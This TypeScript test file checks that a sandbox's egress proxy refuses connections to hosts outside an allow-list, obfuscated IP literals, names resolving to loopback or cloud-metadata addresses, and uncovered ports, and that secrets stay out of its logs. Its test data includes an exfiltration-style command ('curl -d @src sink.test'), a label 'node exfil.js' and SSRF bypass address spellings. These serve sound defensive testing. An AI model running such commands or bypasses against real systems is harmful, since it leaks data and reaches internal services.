// The egress proxy's refusals, driven through its Unix socket exactly as the bridge drives it. Only refusals run
// here: an allowed connection would leave the machine, so the allowed path is proved end to end inside a test
// network namespace (__tests__/e2e/network.test.ts).
import { mkdtemp, rm } from "node:fs/promises";
import net from "node:net";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { decideHost, type NetworkRule } from "../../../src/policy/network.js";
import { parseHostPattern, type HostPattern } from "../../../src/net/host-pattern.js";
import { startEgressProxy, type EgressProxy } from "../../../src/sandbox/egress/proxy.js";

const p = (text: string) => parseHostPattern(text) as HostPattern;
const rule: NetworkRule = {
  mode: "allow-list",
  allow: ["registry.test", "loop.test", "mixed.test", "meta.test", "mapped.test", "nx.test"].map((t) => ({
    pattern: p(t),
    source: `network.allow: "${t}"`,
  })),
  deny: [],
};
const ANSWERS: Record<string, string[]> = {
  "loop.test": ["127.0.0.1"],
  "mixed.test": ["192.0.2.10", "10.0.0.5"],
  "meta.test": ["169.254.169.254"],
  "mapped.test": ["::ffff:127.0.0.1"],
};

let dir: string;
let proxy: EgressProxy;
const looked: string[] = [];

beforeAll(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), "egress-proxy-"));
  proxy = await startEgressProxy({
    socketPath: path.join(dir, "proxy.sock"),
    decide: (host, port) => decideHost(rule, host, port),
    lookup: async (host) => {
      looked.push(host);
      const answers = ANSWERS[host];
      if (!answers) throw Object.assign(new Error("not found"), { code: "ENOTFOUND" });
      return answers.map((address) => ({ address, family: address.includes(":") ? 6 : 4 }));
    },
  });
});
afterAll(async () => {
  await proxy?.close();
  await rm(dir, { recursive: true, force: true });
});

/** Sends one request through the socket as command `command` and returns the proxy's whole answer. */
function send(request: string, command = "node exfil.js"): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = net.connect(path.join(dir, "proxy.sock"));
    let answer = "";
    socket.on("data", (d) => (answer += d.toString()));
    socket.on("end", () => resolve(answer));
    socket.on("error", reject);
    // Preface and request in one write: the proxy must split them correctly.
    socket.write(`${JSON.stringify({ marker: "run/7", command })}\n${request}`);
  });
}

describe("the egress proxy refuses", () => {
  it("a CONNECT to a host the policy does not name, without resolving it, and says which line would allow it", async () => {
    const answer = await send("CONNECT sink.test:443 HTTP/1.1\r\nHost: sink.test:443\r\n\r\n");
    expect(answer).toMatch(/^HTTP\/1.1 403 Forbidden/);
    expect(answer).toContain('to allow it: network.allow: ["sink.test"]');
    expect(looked).not.toContain("sink.test");
  });

  it("a plain-HTTP request to such a host, with its path and headers kept out of the record", async () => {
    const answer = await send(
      "POST http://sink.test/upload?secret=s3cr3t HTTP/1.1\r\nHost: sink.test\r\nAuthorization: Bearer TOPSECRET\r\nContent-Length: 4\r\n\r\ndata",
      "curl -d @src sink.test",
    );
    expect(answer).toMatch(/^HTTP\/1.1 403/);
    const record = proxy.blocked().find((b) => b.command === "curl -d @src sink.test");
    expect(record).toMatchObject({ host: "sink.test", port: 80, marker: "run/7", count: 1 });
    expect(JSON.stringify(proxy.blocked())).not.toMatch(/upload|s3cr3t|TOPSECRET|Bearer/);
  });

  it.each([
    "192.0.2.20:80",
    "169.254.169.254:80",
    "2130706433:443",
    "0177.0.0.1:443",
    "0x7f.1:443",
    "[::1]:443",
    "[::ffff:127.0.0.1]:443",
  ])("an IP literal, %s, in any spelling", async (target) => {
    const answer = await send(`CONNECT ${target} HTTP/1.1\r\n\r\n`);
    expect(answer).toMatch(/^HTTP\/1.1 403/);
    expect(answer).toContain("is an IP address");
  });

  it.each([
    ["loop.test", "loopback"],
    ["mixed.test", "private (RFC 1918)"],
    ["meta.test", "link-local / cloud metadata"],
    ["mapped.test", "loopback"],
  ])("an allowed name, %s, that resolves to a %s address (checked after resolution)", async (host, range) => {
    const answer = await send(`CONNECT ${host}:443 HTTP/1.1\r\n\r\n`);
    expect(answer).toMatch(/^HTTP\/1.1 403/);
    expect(answer).toContain(`resolves to a ${range} address`);
    expect(proxy.blocked().find((b) => b.host === host)).toMatchObject({ rule: "network (address check)" });
  });

  it("a port the pattern does not cover", async () => {
    const answer = await send("GET http://registry.test:8080/x HTTP/1.1\r\nHost: registry.test:8080\r\n\r\n");
    expect(answer).toMatch(/^HTTP\/1.1 403/);
    expect(answer).toContain('network.allow: ["registry.test:8080"]');
  });

  it("anything that is not a proxy request", async () => {
    expect(await send("GET /relative HTTP/1.1\r\nHost: x\r\n\r\n")).toMatch(/^HTTP\/1.1 400/);
  });

  it("counts repeated attempts of one command at one host once, with a count", async () => {
    await send("CONNECT again.test:443 HTTP/1.1\r\n\r\n", "npm test");
    await send("CONNECT again.test:443 HTTP/1.1\r\n\r\n", "npm test");
    expect(proxy.blocked().filter((b) => b.host === "again.test")).toEqual([
      expect.objectContaining({ count: 2, command: "npm test", port: 443 }),
    ]);
  });
});
